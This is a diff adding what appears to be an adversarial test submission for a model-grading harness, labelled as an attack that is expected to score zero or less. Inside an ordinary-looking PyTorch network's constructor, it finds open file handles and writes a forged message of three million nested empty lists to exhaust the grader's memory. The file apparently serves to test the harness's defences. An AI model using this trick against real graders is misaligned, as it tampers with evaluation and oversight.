@@ -1,0 +1,33 @@
+"""Answers with a message of three million empty lists, small on the wire and large in memory.
+
+Kind: network
+Attack: make the grader parse what grows
+Must: score<=0
+"""
+
+import torch
+from torch import nn
+
+
+
+import gc
+import io
+import struct
+
+
+class Net(nn.Module):
+    def __init__(self):
+        super().__init__()
+        header = b'{"body": {"ok": [' + b"[]," * 3_000_000 + b'[]]}, "tensors": []}'
+        for thing in gc.get_objects():
+            if isinstance(thing, io.BufferedWriter) and thing.fileno() > 2:
+                thing.write(b"DLG1" + struct.pack(">I", len(header)) + header)
+                thing.flush()
+        self.maps = nn.Sequential(
+            nn.Conv2d(1, 12, 3), nn.BatchNorm2d(12), nn.ReLU(), nn.MaxPool2d(2),
+            nn.Conv2d(12, 20, 3), nn.BatchNorm2d(20), nn.ReLU(), nn.Conv2d(20, 20, 3), nn.ReLU(),
+        )
+        self.head = nn.Linear(20, 10)
+
+    def forward(self, x):
+        return self.head(self.maps(x).mean((2, 3)))
